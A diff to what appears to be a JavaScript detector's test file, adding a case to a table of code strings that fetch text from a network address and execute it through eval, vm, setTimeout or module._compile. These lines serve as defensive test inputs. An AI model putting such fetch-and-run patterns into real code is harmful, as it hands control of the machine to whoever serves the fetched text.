@@ -90,6 +90,7 @@ describe("what the network answers is followed into evaluation", () => {
     "a timer that takes text": `fetch("${address}").then((r) => setTimeout(r.body, 10));`,
     vm: `fetch("${address}").then((r) => require("vm").runInThisContext(r.body));`,
     "a module compiled by hand": `fetch("${address}").then((r) => { const m = new module.constructor(); m._compile(r.body, "x"); });`,
+    "a text compiled into this module": `fetch("${address}").then((r) => module._compile(r.body, "x"));`,
     "an event emitter": `const bus = new (require("events"))(); bus.on("ready", (text) => eval(text)); fetch("${address}").then((r) => bus.emit("ready", r.body));`,
     "a class that emits": `class Feed extends require("events").EventEmitter { async pull() { this.emit("data", (await fetch("${address}")).body); } } const f = new Feed(); f.pull(); f.on("data", (d) => eval(d));`,
     "an interceptor of a client": `const client = require("axios").create(); client.interceptors.response.use((r) => eval(r.data)); client.get("${address}");`,
